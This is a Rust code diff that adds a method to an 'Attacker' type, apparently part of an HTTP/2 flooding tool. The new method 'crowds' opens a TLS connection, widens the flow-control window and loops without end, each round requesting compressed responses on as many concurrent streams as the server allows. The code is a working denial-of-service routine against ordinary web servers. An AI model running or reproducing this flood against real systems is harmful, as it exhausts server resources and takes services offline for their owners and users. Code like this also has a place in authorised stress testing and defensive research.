@@ -10,7 +10,7 @@ use tokio_rustls::client::TlsStream;
 use super::{Attacker, Kind};
 use crate::hosting::frames::{
     CONTINUATION, DATA, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
-    block, frame, get, headers, preface,
+    block, frame, get, headers, preface, read,
 };
 
 impl Attacker {
@@ -186,6 +186,36 @@ impl Attacker {
             .collect();
         self.write(stream, &requests, u64::from(STREAMS)).await?;
         io::copy(stream, &mut sink()).await.map(drop)
+    }
+
+    /// Asks for as many compressed answers as streams may be open, and for as many again once
+    /// all have come.
+    pub(super) async fn crowds(&self, stream: &mut TlsStream<TcpStream>) -> io::Result<()> {
+        let window = frame(WINDOW_UPDATE, 0, 0, &[0x3f, 0xff, 0, 0]);
+        stream
+            .write_all(&[preface(65_535), window].concat())
+            .await?;
+        let fields = block(&[
+            (":method", "GET"),
+            (":scheme", "https"),
+            (":authority", &self.target.host),
+            (":path", &self.target.path),
+            ("accept-encoding", "gzip"),
+        ]);
+        let mut numbers = (1..MOST_STREAMS).step_by(2);
+        loop {
+            let numbers = numbers.by_ref().take(STREAMS as usize);
+            let requests: Vec<_> = numbers
+                .flat_map(|number| headers(number, END_STREAM, &fields))
+                .collect();
+            self.write(stream, &requests, u64::from(STREAMS)).await?;
+            let mut left = STREAMS;
+            while left > 0 {
+                let frame = read(stream).await?;
+                let is_over = frame.ends_stream() || frame.kind == RST_STREAM;
+                left = left.saturating_sub(u32::from(is_over));
+            }
+        }
     }
 
     pub(super) async fn write<S: AsyncWrite + Unpin>(
